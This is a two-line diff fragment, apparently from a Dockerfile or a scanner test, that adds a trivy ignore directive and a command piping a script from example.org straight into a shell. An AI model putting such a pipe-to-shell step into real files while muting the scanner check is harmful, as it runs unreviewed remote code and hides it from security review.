@@ -1,0 +1,2 @@
+# trivy:ignore:AVD-DS-0002
+curl -s https://example.org/i.sh | sh
